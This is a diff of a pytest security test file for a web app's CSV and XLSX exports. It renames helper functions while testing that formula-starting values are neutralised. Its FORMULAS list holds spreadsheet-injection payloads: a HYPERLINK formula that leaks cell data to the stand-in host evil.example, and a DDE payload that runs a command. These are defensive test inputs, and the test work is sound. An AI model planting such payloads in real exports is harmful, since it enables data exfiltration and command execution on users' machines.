@@ -17,7 +17,7 @@ from tests.security.conftest import Visitor
 from tests.webapp.conftest import EMAIL, owned_event, tiny_event
 from web.db import new_session
 from web.events.store import add_version
-from web.spreadsheets import FORMULA_START, cell, csv_text, xlsx_bytes
+from web.exports import FORMULA_STARTS, csv_text, safe_cell, xlsx_bytes
 
 Visit = Callable[..., Visitor]
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=cmd|' /C calc'!A0",
@@ -26,7 +26,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=cmd|' /C ca
 
 @pytest.mark.parametrize("value", [*FORMULAS, "\t=1+1", "\r=1+1"])
 def test_text_that_starts_a_formula_stays_text(value: str) -> None:
-    assert cell(value) == "'" + value
+    assert safe_cell(value) == "'" + value
     assert next(csv.reader(io.StringIO(csv_text([[value]])))) == ["'" + value]
     book = xlsx_bytes("sheet", [[value]])
     sheet = load_workbook(io.BytesIO(book)).active
@@ -39,7 +39,7 @@ def test_text_that_starts_a_formula_stays_text(value: str) -> None:
 
 @pytest.mark.parametrize("value", ["Alpha Robotics", "st-01", 12, -3, None, "a=b", "T01"])
 def test_other_cells_are_untouched(value: object) -> None:
-    assert cell(value) == value
+    assert safe_cell(value) == value
 
 
 def test_the_schedule_csv_neutralises_formula_names(app: Flask, organiser: str,
@@ -61,7 +61,7 @@ def test_the_schedule_csv_neutralises_formula_names(app: Flask, organiser: str,
     rows = list(csv.reader(io.StringIO(body)))
     assert len(rows) > 1
     cells = [c for row in rows[1:] for c in row]
-    assert not [c for c in cells if c.startswith(FORMULA_START)]
+    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
     assert "'" + FORMULAS[0] in cells and "'=1+2" in cells
 
 
@@ -79,4 +79,4 @@ def test_import_templates_hold_no_formula(app: Flask, organiser: str, visit: Vis
             sheet = load_workbook(io.BytesIO(body)).active
             assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)  # type: ignore[union-attr]
             cells = [str(c.value) for row in sheet.iter_rows() for c in row if c.value]  # type: ignore[union-attr]
-        assert cells and not [c for c in cells if c.startswith(FORMULA_START)]
+        assert cells and not [c for c in cells if c.startswith(FORMULA_STARTS)]
